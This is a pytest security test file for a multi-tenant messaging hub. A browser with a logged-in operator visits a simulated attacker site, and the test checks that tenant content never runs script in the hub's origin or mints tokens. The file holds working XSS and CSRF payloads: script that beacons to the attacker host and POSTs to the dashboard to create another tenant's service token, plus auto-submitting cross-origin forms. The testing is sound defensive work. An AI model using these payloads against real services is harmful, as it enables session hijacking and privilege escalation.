"""What tenants publish and answer, tried by an attacker from another origin in a browser in which
the operator is logged in: no script of theirs runs in the hub's origin, and no token is made."""

from __future__ import annotations

import json
import shutil
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any
from urllib.parse import quote

import msgspec
import pytest
from aiohttp import web

from benchmarks.servers import free_port
from harness.admin import admin_of
from harness.callbacks import eventually
from harness.running_hub import RunningHub, StartHub, hub_settings, open_hub
from harness.service import ServiceServer, running_service, saying
from hubbub.domain.permissions import Identity, Level
from hubbub.domain.rules import HubConfiguration, RpcRoute, Rules
from hubbub.gateways import credentials, exchange
from hubbub.gateways.content_headers import own
from hubbub.server.wiring import Server

api = pytest.importorskip("playwright.async_api", reason="Playwright is not installed")
CHROMIUM = shutil.which("chromium")
FLAGS = ("--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage")
pytestmark = [
    pytest.mark.spec("OPS-02", "UI-01"),
    pytest.mark.skipif(CHROMIUM is None, reason="Debian's Chromium is not installed"),
    pytest.mark.timeout(180),
]
OPEN = Rules(
    public=True, client_publish=True, allow_anonymous=True, store=True, store_by_default=True
)


class Evil:
    """The attacker's site. `told` are the beacons of scripts that ran: what, and in which
    origin."""

    def __init__(self) -> None:
        self.url = ""
        self.told: list[tuple[str, str]] = []
        self.pages: dict[str, str] = {}

    async def handle(self, request: web.Request) -> web.Response:
        if request.path == "/told":
            self.told.append((request.query["what"], request.query["origin"]))
            return web.Response(status=204, headers={"Access-Control-Allow-Origin": "*"})
        return web.Response(text=self.pages.get(request.path, ""), content_type="text/html")

    def script(self, what: str) -> str:
        """Says that it ran, and makes a token of another tenant with the operator's cookie."""
        return f"""(async () => {{
          const told = "{self.url}/told?origin=" + origin + "&what=";
          const tell = (what) => fetch(told + encodeURIComponent(what));
          await tell("{what}");
          const made = await fetch("/dashboard/api/hubs/blue/tokens", {{method: "POST",
            headers: {{"Hubbub-Dashboard": "1"}},
            body: JSON.stringify({{userID: "eve", level: "service"}})}});
          await tell("token " + made.status);
        }})();"""

    def bodies(self) -> dict[str, str]:
        """By content type, a document that runs the script where it is taken for that type."""
        markup = f"<script>{self.script('html')}</script>"
        parts = f"--b\r\nContent-Type: text/html\r\n\r\n{markup}\r\n--b--"
        svg = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{self._xml("svg")}</script></svg>'
        page = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{self._xml("xhtml")}</script></html>'
        xml = (
            f'<a><x:script xmlns:x="http://www.w3.org/1999/xhtml">{self._xml("xml")}</x:script></a>'
        )
        return {
            "text/html": markup,
            "Text/HTML; charset=utf-8": markup,
            "text/plain, text/html": markup,
            "multipart/x-mixed-replace; boundary=b": parts,
            "image/svg+xml": svg,
            "application/xhtml+xml": page,
            "text/xml": xml,
            "application/rss+xml": xml,
            "text/javascript": self.script("script"),
            "application/json": json.dumps(markup),
            "text/plain": markup,
            "application/octet-stream": markup,
            "image/png": markup,
            "nonsense": markup,
        }

    def _xml(self, what: str) -> str:
        return f"<![CDATA[{self.script(what)}]]>"


@pytest.fixture
async def evil() -> AsyncIterator[Evil]:
    site, application = Evil(), web.Application()
    application.router.add_route("*", "/{path:.*}", site.handle)
    runner = web.AppRunner(application, shutdown_timeout=0.1)
    await runner.setup()
    listening = web.TCPSite(runner, "127.0.0.2", 0)
    await listening.start()
    site.url = f"http://127.0.0.2:{runner.addresses[0][1]}"
    yield site
    await runner.cleanup()


@pytest.fixture
async def start_hub(tmp_path: Path) -> AsyncIterator[StartHub]:
    running: list[RunningHub] = []

    async def start(*hubs: HubConfiguration, **overrides: object) -> RunningHub:
        server = Server(hub_settings(tmp_path, *hubs, **overrides))
        await server.start()
        running.append(RunningHub(server))
        return running[-1]

    yield start
    for hub in running:
        await hub.close()


@pytest.fixture
async def service() -> AsyncIterator[ServiceServer]:
    async with running_service() as running:
        yield running


@pytest.fixture
async def browser() -> AsyncIterator[Any]:
    async with api.async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser
        await browser.close()


def tenants(service: ServiceServer) -> list[HubConfiguration]:
    """The hostile one has let every page in, as its service token may."""
    red = open_hub("red", rules=OPEN, open_topics=True, allowed_origins=("*",), commands=True)
    return [
        msgspec.structs.replace(red, rpc_routes={"r": RpcRoute("cart.*", service.url)}),
        open_hub("blue"),
    ]


@asynccontextmanager
async def operator(browser: Any, hub: RunningHub, address: str) -> AsyncIterator[Any]:
    """A browser in which an administrator of all hubs is logged in at the dashboard."""
    context = await browser.new_context(accept_downloads=False)
    page = await context.new_page()
    await page.goto(f"{address}/dashboard")
    token = hub.token("root", hub="*", level=Level.ADMIN)
    logged_in = await page.evaluate(
        """async (token) => (await fetch("/dashboard/login", {method: "POST",
             headers: {"Hubbub-Dashboard": "1"}, body: JSON.stringify({token})})).status""",
        token,
    )
    assert logged_in == 200
    yield context
    await context.close()


async def made_tokens(hub: RunningHub) -> list[str]:
    found = (await admin_of(hub)("GET", "/v1/admin/audit")).json["items"]
    return [each["action"] for each in found if each["action"].startswith("token")]


async def visit(page: Any, url: str) -> None:
    """As far as it goes: a download and an empty answer are no navigation."""
    try:
        await page.goto(url, wait_until="commit")
        await page.wait_for_load_state("networkidle")
    except api.Error as error:
        if "ERR_ABORTED" not in str(error) and "Download is starting" not in str(error):
            raise


async def publish(hub: RunningHub, evil: Evil) -> list[str]:
    """Fills every place that a tenant can fill; answers the addresses that hand it out."""
    base = f"http://{hub.address}/v1/hubs/red"
    found = []
    for number, (kind, body) in enumerate(evil.bodies().items()):
        channel = f"{base}/channels/c{number}"
        sent = {"Content-Type": kind}
        async with hub.http.post(f"{channel}/messages", data=body, headers=sent) as answer:
            assert answer.status == 200, await answer.text()
        found.append(f"{channel}/content")
    markup = quote(evil.bodies()["text/html"], safe="")
    document = f"{base}/channels/doc:d/document"
    token = hub.token("svc", hub="red", level=Level.SERVICE)
    headers = {"Authorization": f"Bearer {token}"}
    text = json.dumps(evil.bodies()["text/html"])
    async with hub.http.put(document, data=text, headers=headers) as answer:
        assert answer.status == 200, await answer.text()
    own_token = f"token={token}"
    return [
        *found,
        f"{document}?{own_token}",
        f"{document}/changes?{own_token}",
        f"{base}/channels/c0/messages",
        f"{base}/channels/c0/threads",
        f"{base}/channels/c0/presence",
        f"{base}/topics/c0/messages?{own_token}",
        f"{base}/channels/c0/messages?after={markup}",
        f"{base}/channels/{markup[:900]}/nothing",
        f"{base}/hub/publish/x{markup}",
        f"{base}/websub?hub.mode={markup}",
        f"{base}/webhooks?{own_token}",
        f"http://{hub.address}/v1/admin/{markup}",
        f"http://{hub.address}/dashboard/{markup[:900]}.html",
        f"http://{hub.address}/{markup}",
    ]


def forms(hub: RunningHub, evil: Evil, rpc_token: str) -> list[str]:
    """Each posts markup, by another way of encoding, into a frame."""
    base = f"http://{hub.address}/v1/hubs/red"
    value = evil.bodies()["text/html"].replace("&", "&amp;").replace('"', "&quot;")
    actions = (
        f"{base}/rpc/cart.add?token={rpc_token}",
        f"{base}/rpc/cart.add?access_token={rpc_token}",
        f"{base}/channels/c0/messages",
        f"{base}/messages",
        f"{base}/commands",
        f"{base}/topics/c0/messages",
        f"{base}/hub/publish/c0",
        f"{base}/websub?hub.mode=publish&amp;hub.topic=x",
        f"http://{hub.address}/dashboard/login",
        f"http://{hub.address}/v1/admin/hubs/blue/tokens",
    )
    return [
        f'<form method="post" action="{action}" enctype="{kind}">'
        f'<input name="a" value="{value}"></form>'
        for action in actions
        for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data")
    ]


async def test_from_another_origin_nothing_of_a_tenant_runs_beside_the_operators_cookie(
    start_hub: StartHub, service: ServiceServer, browser: Any, evil: Evil
) -> None:
    service.answer = saying(
        200, evil.bodies()["text/html"].encode(), **{"Content-Type": "text/html"}
    )
    hub = await start_hub(*tenants(service))
    rpc_token = hub.server.tokens.issue("red", Identity(user_id="eve", rpcs=("*",)), 600)
    urls = await publish(hub, evil)
    posted = forms(hub, evil, rpc_token)
    embedded = "".join(
        f'<iframe src="{url}"></iframe><img src="{url}"><script src="{url}"></script>'
        f'<link rel="stylesheet" href="{url}"><object data="{url}"></object><embed src="{url}">'
        for url in (each.replace("&", "&amp;").replace('"', "%22") for each in urls)
    )
    control = "<script>fetch('/told?what=control&origin=' + origin)</script>"
    evil.pages["/embed"] = control + embedded
    evil.pages["/frames"] = "".join(
        f'<iframe name="f{number}"></iframe>' + form.replace("<form", f'<form target="f{number}"')
        for number, form in enumerate(posted)
    )
    evil.pages["/frames"] += "<script>for (const f of document.forms) f.submit()</script>"
    async with operator(browser, hub, f"http://{hub.address}") as context:
        page = await context.new_page()
        await visit(page, f"{evil.url}/embed")
        for url in urls:
            evil.pages["/go"] = f"<script>location = {json.dumps(url)}</script>"
            await visit(page, f"{evil.url}/go")
        await visit(page, f"{evil.url}/frames")
        for form in posted[::3]:
            evil.pages["/form"] = f"{form}<script>document.forms[0].submit()</script>"
            await visit(page, f"{evil.url}/form")
    assert evil.told == [("control", evil.url)]
    assert await made_tokens(hub) == []


@pytest.mark.parametrize("apart", [False, True], ids=["one-origin", "dashboard-apart"])
async def test_where_a_script_does_run_an_origin_of_its_own_keeps_the_dashboard_apart(
    service: ServiceServer,
    browser: Any,
    evil: Evil,
    start_hub: StartHub,
    monkeypatch: pytest.MonkeyPatch,
    apart: bool,
) -> None:
    """The control of the test above: without the function that decides the headers, and with tokens
    of forms, the same attack makes the token."""
    monkeypatch.setattr(exchange, "passive", own)
    monkeypatch.setattr(credentials, "from_page", lambda _: False)
    service.answer = saying(
        200, evil.bodies()["text/html"].encode(), **{"Content-Type": "text/html"}
    )
    port = free_port()
    settings = {"listener__dashboard__host": f"localhost:{port}"} if apart else {}
    hub = await start_hub(*tenants(service), listener__port=port, **settings)
    rpc_token = hub.server.tokens.issue("red", Identity(user_id="eve", rpcs=("*",)), 600)
    form = forms(hub, evil, rpc_token)[0]
    evil.pages["/form"] = f"{form}<script>document.forms[0].submit()</script>"
    address = f"http://localhost:{port}" if apart else f"http://{hub.address}"
    async with operator(browser, hub, address) as context:
        page = await context.new_page()
        await page.goto(f"{evil.url}/form")

        async def both_told() -> bool:
            return len(evil.told) > 1

        await eventually(both_told)
        evil.pages["/form"] = evil.pages["/form"].replace("127.0.0.1", "localhost")
        await visit(page, f"{evil.url}/form")  # in the very origin of the dashboard, if it is apart
    origin = f"http://{hub.address}"
    made = "token 404" if apart else "token 201"
    assert evil.told[:2] == [("html", origin), (made, origin)]
    assert ("html", f"http://localhost:{port}") not in evil.told or not apart
    assert (await made_tokens(hub) == []) == apart
